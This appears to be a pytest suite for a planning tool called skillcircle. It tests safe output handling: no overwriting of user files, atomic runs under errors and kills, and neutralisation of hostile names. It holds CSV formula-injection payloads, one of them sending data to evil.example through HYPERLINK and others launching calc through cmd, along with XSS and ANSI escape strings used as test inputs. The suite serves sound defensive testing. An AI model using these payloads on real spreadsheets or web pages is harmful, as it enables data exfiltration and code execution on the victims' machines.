"""A planner's files are sacred, runs are all or nothing, and ledger or OSM text stays data.

Driven through the command line on the hand-made study with districts and 街道
(``hand_areas``): what a planner does, with hostile file names and contents.
"""

from __future__ import annotations

import csv
import hashlib
import os
import signal
import time
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from skillcircle import cli
from skillcircle.outputs import publish as publish_module
from skillcircle.outputs.folder import MANIFEST
from skillcircle.outputs.webmap import map_titles

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
SCRIPT = "<script>window.pwned=1</script>"
IMG = '<img src=x onerror="window.pwned=1">'


def _argv(study: dict, out: Path | str, *extra: str) -> list[str]:
    argv = ["report", "--out", str(out)]
    for key in ("stations", "network", "population", "districts", "subdistricts"):
        argv += [f"--{key}", str(study[key])]
    argv += ["--minutes", str(study["minutes"]), "--max-snap-m", str(study["max_snap_m"])]
    argv += ["--speed-kmh", "4.0,3.0", "--no-calibrate"]
    if study.get("crs"):
        argv += ["--crs", str(study["crs"])]
    return [*argv, *extra]


def _run(argv: list[str], capsys) -> tuple[int, str, str]:
    code = cli.main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _digests(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


def _no_leftovers(parent: Path) -> None:
    hidden = sorted(p.name for p in parent.rglob(".*") if p.name != MANIFEST)
    assert hidden == []


@pytest.fixture
def study(hand_areas: dict) -> dict:
    return hand_areas


def test_a_users_file_under_an_output_name_is_never_replaced(study, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.md").write_text("my own report", encoding="utf-8")
    (out / "notes.txt").write_text("my notes", encoding="utf-8")
    before = _digests(out)
    code, _, err = _run(_argv(study, out), capsys)
    assert code == 2
    line = _one_error_line(err)
    assert "report.md" in line
    assert "not written by skillcircle" in line
    assert "--overwrite" in line
    assert _digests(out) == before
    # allowed explicitly, the run replaces it and still keeps the notes
    code, _, err = _run(_argv(study, out, "--overwrite"), capsys)
    assert code == 0, err
    assert (out / "report.md").read_text(encoding="utf-8").startswith("# ")
    assert (out / "notes.txt").read_text(encoding="utf-8") == "my notes"
    # staged, but the map is titled after the study (its districts, walk and speed), never
    # after the staging folder
    page = (out / "map.html").read_text(encoding="utf-8")
    title, subtitle = map_titles(out)
    assert subtitle is not None
    assert " 分钟步行 · " in title
    assert f"<title>{title}</title>" in page
    assert "staging" not in page


def test_reruns_keep_every_file_the_tool_did_not_write(study, tmp_path, capsys):
    out = tmp_path / "out"
    assert _run(_argv(study, out), capsys)[0] == 0
    mine = {"candidates.mine.geojson": "{}", "suggestions-final.csv": "a,b\n", "x/y.txt": "z"}
    for name, text in mine.items():
        (out / name).parent.mkdir(exist_ok=True)
        (out / name).write_text(text, encoding="utf-8")
    ours = {p.name for p in out.iterdir() if p.is_file()} - set(mine) - {MANIFEST}
    assert _run(_argv(study, out), capsys)[0] == 0
    for name, text in mine.items():
        assert (out / name).read_text(encoding="utf-8") == text
    assert {p.name for p in out.iterdir() if p.is_file()} - {MANIFEST} == ours | {
        "candidates.mine.geojson",
        "suggestions-final.csv",
    }
    _no_leftovers(tmp_path)


@pytest.mark.parametrize("where", ["ledger folder", "ledger file", "empty"])
def test_outputs_never_go_over_an_input_or_into_the_current_folder(study, tmp_path, capsys, where):
    ledger = Path(study["stations"])
    before = _digests(ledger.parent)
    out = {"ledger folder": ledger.parent, "ledger file": ledger, "empty": ""}[where]
    code, _, err = _run(_argv(study, out), capsys)
    assert code == 2
    line = _one_error_line(err)
    assert ("input of this run" in line) if where != "empty" else ("output folder is empty" in line)
    assert _digests(ledger.parent) == before


@pytest.mark.parametrize("step", ["write_geojson", "write_map", "write_html_report"])
def test_a_failing_write_leaves_the_previous_run(study, tmp_path, capsys, monkeypatch, step):
    out = tmp_path / "out"
    assert _run(_argv(study, out), capsys)[0] == 0
    before = _digests(out)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    target = {
        "write_geojson": "skillcircle.outputs.datafiles.write_geojson",
        "write_map": "skillcircle.outputs.publish.write_map",
        "write_html_report": "skillcircle.outputs.publish.write_html_report",
    }[step]
    monkeypatch.setattr(target, full)
    code, _, err = _run(_argv(study, out, "--minutes", "3"), capsys)
    assert code == 2
    assert "No space left on device" in _one_error_line(err)
    assert _digests(out) == before
    _no_leftovers(tmp_path)


def test_ctrl_c_prints_one_line_and_leaves_the_previous_run(study, tmp_path, capsys, monkeypatch):
    out = tmp_path / "out"
    assert _run(_argv(study, out), capsys)[0] == 0
    before = _digests(out)

    def interrupted(*args: object, **kwargs: object) -> None:
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(5)  # the handler raises before this ends

    monkeypatch.setattr(publish_module, "write_html_report", interrupted)
    code, _, err = _run(_argv(study, out, "--minutes", "3"), capsys)
    assert code == 130
    assert _one_error_line(err) == "interrupted; nothing written"
    assert _digests(out) == before
    _no_leftovers(tmp_path)
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler


def _hostile_study(study: dict, tmp_path: Path) -> dict:
    """The hand study with formula and markup names in the ledger and the 街道 layer."""
    ledger = pd.read_csv(study["stations"])
    ledger.loc[0, "名称"] = FORMULAS[0]
    ledger.loc[1, "名称"] = FORMULAS[1]
    extra = pd.DataFrame(  # rejected rows: their names reach stations_rejected.csv
        {
            "名称": [FORMULAS[2], FORMULAS[3]],
            "类型": ["社区型", "[/x]"],
            "经度": ["", 0],
            "纬度": ["", 0],
        }
    )
    path = tmp_path / "hostile" / "ledger.csv"
    path.parent.mkdir()
    pd.concat([ledger, extra]).to_csv(path, index=False)
    subs = gpd.read_file(study["subdistricts"])
    subs.loc[0, "subdistrict_name"] = SCRIPT
    subs.loc[1, "subdistrict_name"] = IMG + " | *x*"
    subs.loc[2, "subdistrict_name"] = "=cmd|' /C calc'!A0\x1b[31m"
    sub_path = tmp_path / "hostile" / "subdistricts.gpkg"
    subs.to_file(sub_path)
    districts = gpd.read_file(study["districts"])
    districts.loc[1, "district_name"] = "[/x]\x1b[2J:ok:"  # rich markup, ANSI, emoji code
    district_path = tmp_path / "hostile" / "districts.gpkg"
    districts.to_file(district_path)
    return {**study, "stations": path, "subdistricts": sub_path, "districts": district_path}


def _cells(folder: Path) -> list[str]:
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                cells.extend(row)
    return cells


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_is_a_live_formula(study, tmp_path, capsys):
    hostile = _hostile_study(study, tmp_path)
    out = tmp_path / "out"
    code, stdout, err = _run(_argv(hostile, out), capsys)
    assert code == 0, err
    cells = _cells(out)
    assert any(c == "'" + FORMULAS[2] for c in cells)  # a rejected row's name, as text
    assert any(c.startswith("'=cmd") for c in cells)  # the 街道 name
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
    assert live == []
    # the terminal gets the same names as plain text: no markup error, no escape sequence
    assert "\x1b" not in stdout + err
    assert "[/x]?[2J" in stdout  # the district name as written, escape defused


def test_markdown_report_escapes_names(study, tmp_path, capsys):
    hostile = _hostile_study(study, tmp_path)
    out = tmp_path / "out"
    assert _run(_argv(hostile, out), capsys)[0] == 0
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in md
    assert "<img" not in md
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in md
    assert "\\| \\*x\\*" in md  # table syntax inside a name cannot open a new cell
    assert "\x1b" not in md


@pytest.mark.browser
def test_markdown_report_renders_inert_in_chromium(study, tmp_path, capsys):
    from tests.outputs.test_webmap_browser import CHROMEDRIVER, CHROMIUM, start_chromium

    if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
        pytest.skip("needs /usr/bin/chromium and /usr/bin/chromedriver")
    from markdown_it import MarkdownIt

    hostile = _hostile_study(study, tmp_path)
    out = tmp_path / "out"
    assert _run(_argv(hostile, out), capsys)[0] == 0
    # CommonMark with raw HTML allowed, as GitHub-style viewers render a file
    page = MarkdownIt("commonmark", {"html": True}).enable("table")
    html = page.render((out / "report.md").read_text(encoding="utf-8"))
    (tmp_path / "report_md.html").write_text(
        f"<!doctype html><meta charset=utf-8><body>{html}</body>", encoding="utf-8"
    )
    driver = start_chromium(tmp_path / "profile")
    try:
        driver.get((tmp_path / "report_md.html").as_uri())
        time.sleep(0.5)
        assert driver.execute_script("return window.pwned === undefined")
        assert driver.execute_script("return document.querySelectorAll('script, img').length") == 0
        text = driver.execute_script("return document.body.innerText")
        assert SCRIPT in text  # shown as written
    finally:
        driver.quit()


@pytest.mark.slow
def test_sigkill_of_real_runs_never_leaves_a_mixed_folder(study, tmp_path):
    """Kill ``skillcircle report`` at random moments (20 trials): one complete run stays."""
    import json
    import random
    import subprocess
    import sys

    from skillcircle.outputs.folder import clean_stale

    out = tmp_path / "work" / "out"
    argv = [sys.executable, "-m", "skillcircle", *_argv(study, out)]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    subprocess.run(argv, check=True, capture_output=True, env=env)  # kernels compiled, if not yet
    start = time.perf_counter()
    subprocess.run(argv, check=True, capture_output=True, env=env)
    duration = time.perf_counter() - start  # a warm run: to spread the kills over a whole run
    rng = random.Random(7)
    intact = 0
    for trial in range(20):
        before = _digests(out)
        run_id = json.loads((out / MANIFEST).read_text())["run_id"]
        proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
        time.sleep(rng.uniform(0.2, duration * 1.1))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        clean_stale(out)  # what the next run does first
        manifest = json.loads((out / MANIFEST).read_text())
        listed = set(manifest["files"])
        present = {p.name for p in out.iterdir()} - {MANIFEST}
        assert present == listed, f"trial {trial}"
        if manifest["run_id"] == run_id:  # killed before its commit: the previous run, intact
            assert _digests(out) == before, f"trial {trial}"
            intact += 1
        _no_leftovers(tmp_path / "work")
    assert intact >= 10  # most kills land mid-run, before the commit (the case that matters)


def test_stations_check_neutralises_rejects_and_never_writes_over_the_ledger(
    study, tmp_path, capsys
):
    hostile = _hostile_study(study, tmp_path)
    ledger = Path(hostile["stations"])
    before = _digests(ledger.parent)
    # the ledger's own folder as --out: refused, nothing touched
    code, _, err = _run(["stations", "check", str(ledger), "--out", str(ledger.parent)], capsys)
    assert code == 2
    assert "input of this run" in _one_error_line(err)
    assert _digests(ledger.parent) == before
    out = tmp_path / "checked"
    code, _, err = _run(["stations", "check", str(ledger), "--out", str(out)], capsys)
    assert code == 0, err
    cells = _cells(out)
    assert "'" + FORMULAS[2] in cells
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
    assert live == []
    assert sorted(p.name for p in out.iterdir()) == [
        MANIFEST,
        "stations.geojson",
        "stations_rejected.csv",
    ]
